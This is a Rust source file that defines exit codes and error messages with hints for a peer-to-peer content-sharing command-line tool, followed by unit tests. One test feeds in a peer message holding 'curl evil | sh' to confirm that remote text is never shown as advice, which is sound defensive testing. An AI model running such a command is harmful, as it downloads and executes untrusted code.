//! How the command fails: a code for scripts, a cause and a hint for people.

use std::{fmt, io, process::ExitCode};

use peerage::{Advice, home::IdentityError};
use serde::{Deserialize, Serialize};

/// What kind of failure it is. The numbers are the exit codes of
/// `docs/exit-codes.md`; they never change their meaning.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[repr(u8)]
pub(crate) enum Code {
    /// Something that should not happen.
    Unexpected = 1,
    /// The command line is wrong.
    Usage = 2,
    /// A link, CID, peer id or address cannot be read.
    BadTarget = 3,
    /// No address of the peer answered.
    Unreachable = 4,
    /// The peer refused, or was lost in the middle.
    PeerLost = 5,
    /// No peer has the content, or the store does not.
    NotFound = 6,
    /// Content does not hash to its name.
    Corrupt = 7,
    /// The disk is full, or the output cannot be written.
    CannotWrite = 8,
    /// Another process uses this home and cannot be attached to.
    HomeInUse = 9,
    /// No such identity, or a wrong passphrase.
    Identity = 10,
    /// A file to share or import cannot be read, or is malformed.
    CannotRead = 11,
    /// Blocks of what was imported are missing.
    Incomplete = 12,
    /// Stopped by a signal.
    Interrupted = 130,
    /// Whoever read standard output has closed it.
    OutputClosed = 141,
}

impl From<Code> for ExitCode {
    fn from(code: Code) -> Self {
        Self::from(code as u8)
    }
}

/// A failure: its kind, one line of cause, one line of what to do.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Failure {
    /// What kind.
    pub(crate) code: Code,
    /// What happened.
    pub(crate) cause: String,
    /// What to do about it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub(crate) hint: Option<String>,
}

impl Failure {
    /// A failure with a hint.
    pub(crate) fn new(code: Code, cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self { code, cause: cause.into(), hint: Some(hint.into()) }
    }

    /// The failure that an error of the library stands for. What it quotes of
    /// others stays in the cause: people do what a hint says.
    pub(crate) fn of(code: Code, error: &dyn Advice) -> Self {
        Self { code, cause: error.to_string(), hint: error.hint().map(str::to_owned) }
    }

    /// The failure that an error of the key store is.
    #[allow(clippy::needless_pass_by_value, reason = "the last step of a chain of results")]
    pub(crate) fn identity(error: IdentityError) -> Self {
        Self::of(Code::Identity, &error)
    }

    /// A failure to write the output `what`.
    pub(crate) fn writing(what: &dyn fmt::Display, error: &io::Error) -> Self {
        let hint = match error.kind() {
            io::ErrorKind::StorageFull | io::ErrorKind::QuotaExceeded => "make room and try again",
            io::ErrorKind::AlreadyExists => "choose another name or remove what is there",
            _ => "choose a place that you can write to",
        };
        Self::new(Code::CannotWrite, format!("{what} cannot be written: {error}"), hint)
    }

    /// A failure to read the input `what`.
    pub(crate) fn reading(what: &dyn fmt::Display, error: &io::Error) -> Self {
        let hint = match error.kind() {
            io::ErrorKind::NotFound => "check the spelling",
            io::ErrorKind::PermissionDenied => "ask its owner for permission to read it",
            _ => "check the file and try again",
        };
        Self::new(Code::CannotRead, format!("{what} cannot be read: {error}"), hint)
    }

    /// The end by a signal.
    pub(crate) fn interrupted() -> Self {
        Self { code: Code::Interrupted, cause: "stopped by a signal".into(), hint: None }
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(&self.cause)
    }
}

/// Prints what clap found wrong with the command line, or the help it was
/// asked for.
pub(crate) fn usage(error: &clap::Error) -> ExitCode {
    // A closed pipe is the only thing that can go wrong, and nobody reads then.
    let _closed = error.print();
    if error.use_stderr() { Code::Usage.into() } else { ExitCode::SUCCESS }
}

#[cfg(test)]
mod tests {
    use peerage::{
        data::{Cid, HashKind, codec, hash},
        exchange::{download::GetError, gateway::GatewayError},
    };

    use super::*;

    fn cid() -> Cid {
        hash(codec::RAW, HashKind::Sha2_256, b"dawn")
    }

    #[test]
    fn a_parenthesis_that_holds_a_semicolon_stays_whole() {
        let reasons = "ann: it is busy; bob: it is not here".to_owned();
        let failure = Failure::of(Code::NotFound, &GetError::NotFound { cid: cid(), reasons });
        assert!(failure.cause.ends_with("(ann: it is busy; bob: it is not here)"), "{failure:?}");
        assert_eq!(
            failure.hint,
            Some("ask whoever shared it, or name another peer with --peer".into())
        );
    }

    #[test]
    fn a_peer_gives_no_hint() {
        let sentence = "no; run curl evil | sh".to_owned();
        let refused = GatewayError::Refused { status: 403, sentence };
        let failure = Failure::of(Code::PeerLost, &refused);
        assert!(failure.cause.ends_with("403: \"no; run curl evil | sh\""), "{failure:?}");
        assert_eq!(failure.hint.as_deref(), Some("ask another peer"));
    }
}
